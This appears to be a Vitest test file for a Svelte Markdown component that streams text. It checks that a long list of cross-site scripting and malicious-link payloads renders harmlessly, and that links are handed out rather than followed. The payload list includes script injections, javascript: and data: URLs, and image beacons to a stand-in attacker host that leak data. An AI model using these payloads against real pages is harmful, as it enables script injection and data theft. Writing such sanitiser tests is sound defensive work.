import { cleanup, render } from '@testing-library/svelte';
import { afterEach, describe, expect, test, vi } from 'vitest';
import Markdown from './Markdown.svelte';

/** Payloads that got through elsewhere: in chat apps, Markdown readers and sanitisers. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/leak?d=secret">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action="https://evil.example"><input name=a></form>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<p id=x><a name=x></p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](<java\\\nscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](VBScript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](filesystem:https://a.example/1)',
  '[x](app://ui/index.html)',
  '[x](//evil.example/x)',
  '[x](\\\\evil.example\\x)',
  '[x](/etc/passwd)',
  '[x](ms-msdt:/id)',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x](https://a.example "t" onclick="alert(1)")',
  '[x](https://a.example/`onclick=alert(1)`)',
  '[x"onclick="alert(1)](https://a.example)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x][r]\n\nmore\n\nwords\n\n[r]: data:text/html,x',
  '[r]\n\n[r]: <javascript:alert(1)> "t"',
  '![r]\n\n[r]: https://evil.example/leak.png',
  '![x](https://evil.example/leak.png?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](https://evil.example/x)',
  '![<script>alert(1)</script>](https://evil.example/x)',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<https://a.example/"onclick=alert(1)>',
  'javascript://a.example/%0aalert(1)',
  'https://a.example/<script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |',
  '- <svg onload=alert(1)>\n  - [x](vbscript:x)',
  '> <img src=x onerror=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img/src=x onerror=alert(1)>\nx\n```',
  '``<img src=x onerror=alert(1)>``',
  '~~<img src=x onerror=alert(1)>~~',
  '**<img src=x onerror=alert(1)**>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<a\u2028href="javascript:alert(1)">x</a>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
];

/** What the window makes itself around code: not from the text. */
const own = new Set([
  'FIGURE',
  'FIGCAPTION',
  'BUTTON',
  'svg',
  'path',
  'SPAN',
  'PRE',
  'CODE',
  'DIV',
]);
const written = new Set(
  'P BR STRONG EM S DEL A UL OL LI BLOCKQUOTE H2 H3 H4 H5 H6 HR TABLE THEAD TBODY TR TH TD'.split(
    ' ',
  ),
);

const loading = /^(?:on.*|src|srcset|srcdoc|action|data|xlink:href|formaction)$/iu;

function isDangerous(element: Element, { name, value }: Attr): boolean {
  if (name === 'href') return !/^(?:https?:\/\/|mailto:)/u.test(value);
  if (name === 'style') return element.tagName !== 'svg';
  return loading.test(name);
}

function dangersIn(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const isKnown = own.has(element.tagName) || written.has(element.tagName);
    const bad = [...element.attributes].filter((attribute) => isDangerous(element, attribute));
    return [...(isKnown ? [] : [element.tagName]), ...bad.map(({ name }) => name)];
  });
}

afterEach(cleanup);
const handOut = { onlink: () => undefined, oncopy: () => Promise.resolve() };

describe('hostile text', () => {
  test.each(payloads)('%j is harmless wherever the stream cuts it', async (payload) => {
    const { container, rerender } = render(Markdown, { source: '', isStreaming: true, ...handOut });
    for (let end = 1; end <= Math.min(payload.length, 64); end += 1) {
      await rerender({ source: payload.slice(0, end) });
      expect(dangersIn(container)).toEqual([]);
    }
    await rerender({ source: payload });
    expect(dangersIn(container)).toEqual([]);
    await rerender({ isStreaming: false });
    expect(dangersIn(container)).toEqual([]);
    const streamed = container.innerHTML;
    cleanup();
    const stored = render(Markdown, { source: payload, ...handOut });
    expect(stored.container.innerHTML).toBe(streamed);
    expect(dangersIn(stored.container)).toEqual([]);
  });

  test('in the middle of a text, cut in two at every place, is harmless', async () => {
    for (const payload of payloads) {
      const whole = `Before **it**\n\n${payload}\n\nafter\n\nit`;
      for (let place = 1; place < Math.min(whole.length, 64); place += 7) {
        const view = render(Markdown, {
          source: whole.slice(0, place),
          isStreaming: true,
          ...handOut,
        });
        await view.rerender({ source: whole });
        expect(dangersIn(view.container)).toEqual([]);
        view.unmount();
      }
    }
  });

  test('the check itself sees dangers', () => {
    const root = document.createElement('div');
    root.innerHTML = '<img src=x onerror=y><a href="javascript:x">x</a><script></script>';
    expect(dangersIn(root)).toHaveLength(5);
  });
});

describe('a link', () => {
  test('is handed out and never followed', () => {
    const onlink = vi.fn();
    const { container } = render(Markdown, {
      ...handOut,
      source: '[x](https://example.org/?a=1&b=2)',
      onlink,
    });
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    container.querySelector('a')?.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(onlink).toHaveBeenCalledExactlyOnceWith('https://example.org/?a=1&b=2');
  });

  test('is not followed with the middle button either', () => {
    const onlink = vi.fn();
    const { container } = render(Markdown, { ...handOut, source: 'https://example.org', onlink });
    const click = new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 });
    container.querySelector('a')?.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    expect(onlink).toHaveBeenCalledOnce();
  });
});

describe('the view', () => {
  test('begins anew when the text is another one', async () => {
    const view = render(Markdown, { source: 'one **two**', isStreaming: true, ...handOut });
    await view.rerender({ source: 'other' });
    expect(view.container.textContent?.trim()).toBe('other');
  });

  test('shows a repaired tail while it streams and the text as written at the end', async () => {
    const view = render(Markdown, { source: 'so **bol', isStreaming: true, ...handOut });
    expect(view.container.querySelector('strong')?.textContent).toBe('bol');
    await view.rerender({ isStreaming: false });
    expect(view.container.textContent?.trim()).toBe('so **bol');
  });

  test('colours code once its grammar has come, keeping every character', async () => {
    const code = 'const a = "漢";\n\nf(a);';
    const { container } = render(Markdown, { source: `\`\`\`js\n${code}\n\`\`\``, ...handOut });
    await vi.waitFor(() => expect(container.querySelector('pre .keyword')).not.toBeNull());
    expect(container.querySelector('pre')?.textContent).toBe(code);
  });

  test('keeps the coloured lines of a code block that grows', async () => {
    const view = render(Markdown, { source: '```js\nlet a;\nle', isStreaming: true, ...handOut });
    await vi.waitFor(() => expect(view.container.querySelector('.keyword')).not.toBeNull());
    const coloured = view.container.querySelector('.keyword');
    await view.rerender({ source: '```js\nlet a;\nlet b;\nle' });
    expect(view.container.querySelector('.keyword')).toBe(coloured);
    expect(view.container.querySelectorAll('.keyword')).toHaveLength(2);
  });

  test('hands out the code of a block to copy', () => {
    const oncopy = vi.fn(() => Promise.resolve());
    const { getByRole } = render(Markdown, { ...handOut, source: '```\na\n\nb\n```', oncopy });
    getByRole('button', { name: 'Copy code' }).click();
    expect(oncopy).toHaveBeenCalledExactlyOnceWith('a\n\nb');
  });
});
